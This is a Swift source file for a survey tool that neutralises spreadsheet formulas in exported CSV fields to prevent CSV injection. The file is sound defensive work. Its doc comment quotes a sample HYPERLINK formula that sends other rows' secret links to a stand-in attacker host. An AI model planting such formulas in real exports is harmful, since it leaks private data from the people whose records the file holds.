/// Keeps the CSV files Survey360 writes from running formulas when HR opens
/// them in a spreadsheet (CSV injection).
///
/// A name such as `=HYPERLINK("https://evil.example/?"&H2,"Click")` in
/// `invitations.csv` would become a live formula that sends other rows'
/// secret links away. Following the OWASP guidance on CSV injection, a field
/// that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
/// written with a leading apostrophe, which spreadsheets read as "this is
/// text" and show without it; CSV quoting then applies as usual.
package enum SpreadsheetCell {
    /// The first characters that make a spreadsheet read a cell as a formula.
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// `field`, with a leading `'` if a spreadsheet would take it for a formula.
    package static func neutralised(_ field: String) -> String {
        guard let first = field.unicodeScalars.first, formulaStarts.contains(first) else { return field }
        return "'" + field
    }

    /// Every field of `row` neutralised.
    package static func neutralised(_ row: [String]) -> [String] {
        row.map(neutralised)
    }
}
